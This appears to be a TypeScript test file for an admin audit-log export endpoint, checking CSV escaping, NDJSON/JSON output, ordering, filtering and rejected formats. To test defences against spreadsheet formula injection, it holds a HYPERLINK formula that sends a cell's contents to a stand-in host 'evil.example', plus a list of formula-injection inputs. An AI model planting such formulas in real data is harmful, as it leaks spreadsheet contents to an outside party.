import { expect, test } from "bun:test";
import { csvCell } from "../../src/admin/exporting.ts";
import { pick, pickText } from "../harness/json.ts";
import { codeOf, describeApi, fieldsOf, itemsOf } from "./started.ts";
import { multiply, withShell } from "./store-shell.ts";

const EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")';

test("an amount stays a number, also one that is owed back", () => {
  expect(["-12.5", "0.0007", "-3"].map(csvCell)).toEqual(['"-12.5"', '"0.0007"', '"-3"']);
});

test.each(["=1+1", "+1", "-1+1", "-A1", "-1e3", "@SUM(A1)", "\t=1", " =1", "\r\n=1"])(
  "a cell %j is text to a spreadsheet",
  (text) => {
    expect(csvCell(text)).toBe(`"'${text}"`);
  },
);

describeApi("the audit log as a file", (api) => {
  const file = (format: string, more = "", key = api.gateway.adminKey) =>
    api.gateway.api("GET", `/v1/audit-log/export?format=${format}${more}`, { key });

  test("comes as CSV with a heading, every quote doubled and no formula in it", async () => {
    await api.gateway.api("POST", "/v1/auth/logout", { headers: { "user-agent": EVIL } });
    const { headers, text } = await file("csv");
    expect(headers.get("content-type")).toStartWith("text/csv");
    expect(headers.get("content-disposition")).toMatch(
      /^attachment; filename="audit-log-\d{4}-\d\d-\d\d\.csv"$/,
    );
    expect(text.split("\r\n", 1)[0]).toStartWith("id,timestamp,action,actor_id");
    expect(text).toContain(`"'${EVIL.replaceAll('"', '""')}"`);
  });

  test("is as large as the log, in every format, each entry once and newest first", async () => {
    await withShell(api.gateway, (store) => multiply(store, "audit_log", 1_234, ["id", "resource_id"]));
    const lines = (await file("ndjson")).text.trimEnd().split("\n");
    const ids = lines.map((line) => pickText(JSON.parse(line), "id"));
    expect(ids.length).toBeGreaterThan(1_234);
    expect(new Set(ids).size).toBe(ids.length);
    expect(ids).toEqual(ids.toSorted().toReversed());
    const items = pick((await file("json")).body, "data.items");
    expect(Array.isArray(items) ? items.map((item) => pickText(item, "id")) : []).toEqual(ids);
    expect((await file("csv")).text.trimEnd().split("\r\n")).toHaveLength(ids.length + 1);
  });

  test("is narrowed as the list is, down to nothing", async () => {
    const body = { name: "exported" };
    const made = await api.gateway.api("POST", "/v1/api-keys", { body, key: api.gateway.firstKey });
    const only = `&resource_id=${pickText(made.body, "data.id")}`;
    const listed = itemsOf(await api.gateway.api("GET", `/v1/audit-log?${only.slice(1)}`));
    expect(pick((await file("json", only, api.gateway.firstKey)).body, "data.items")).toEqual(
      listed.map((entry) => ({ ...entry, sealed: expect.any(Boolean) })),
    );
    expect(pick((await file("json", "&action=no.such")).body, "data.items")).toEqual([]);
    expect((await file("ndjson", "&action=no.such")).text).toBe("");
  });

  test("in no other format", async () => {
    const reply = await file("xlsx");
    expect([codeOf(reply), fieldsOf(reply)]).toEqual(["VALIDATION_ERROR", ["query.format"]]);
  });
});
